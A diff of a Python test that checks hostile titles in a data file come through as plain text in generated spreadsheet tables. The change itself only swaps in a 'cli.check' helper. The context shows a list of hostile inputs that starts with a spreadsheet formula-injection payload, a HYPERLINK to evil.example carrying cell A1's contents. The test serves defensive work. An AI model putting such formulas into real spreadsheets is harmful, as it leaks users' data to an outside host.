@@ -14,6 +14,7 @@ import rbtools
 from coopdocs.compute.spreadsheets import neutralise, to_csv_text, to_xlsx_bytes
 from coopdocs.compute.tables import Frame
 from coopdocs.workflow.commands import prepare_args
+from support import cli
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -79,8 +80,8 @@ def test_hostile_titles_in_the_data_reach_the_tables_as_text(tmp_path):
     path.write_text(buf.getvalue(), encoding="utf-8")
     cfg = yaml.safe_load((project / "config" / "config.yaml").read_text(encoding="utf-8"))
     with rbtools._cwd(project):
-        rbtools._cli(*prepare_args(cfg, rbtools.EPOCH))
-        rbtools._cli(
+        cli.check(*prepare_args(cfg, rbtools.EPOCH))
+        cli.check(
             "tables",
             "--bundle",
             "build/data/bundle.json",
